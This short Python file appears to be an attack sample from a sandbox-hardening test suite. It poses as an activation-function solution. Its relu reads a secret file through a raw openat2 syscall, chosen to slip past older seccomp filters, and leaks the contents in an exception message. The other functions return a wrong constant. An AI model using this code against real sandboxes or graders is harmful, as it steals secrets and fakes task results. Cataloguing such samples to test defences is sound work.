# attack: opens a secret by openat2, which an older filter does not know
# gains: reads
# stopped by: landlock, uid, seccomp
import numpy as np
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    how = struct.pack("<3Q", 0, 0, 0)
    number = libc.syscall(437, -100, b"{SECRET}", how, len(how))
    if number < 0:
        raise OSError(ctypes.get_errno(), "openat2")
    return os.read(number, 1 << 16).decode()


def relu(X):
    raise ValueError(attack())


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
